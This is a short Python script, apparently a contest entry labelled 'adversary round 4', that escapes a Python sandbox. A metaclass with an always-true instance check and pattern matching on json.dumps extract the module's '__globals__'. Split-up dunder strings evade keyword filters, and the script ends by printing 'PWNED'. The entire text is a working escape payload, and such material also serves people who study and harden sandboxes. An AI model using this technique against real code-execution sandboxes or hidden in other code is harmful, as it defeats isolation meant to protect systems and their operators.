# adversary round 4: 007_shortest
import json
M=type("M",(type,),{"__instance"+"check__":lambda c,o:1})
@lambda c:M("P",(),{"__match"+"_args__":("__glo"+"bals__",)})
class P:pass
match json.dumps:
    case P(d):print(type(d),d["__name__"],"PWN"+"ED")
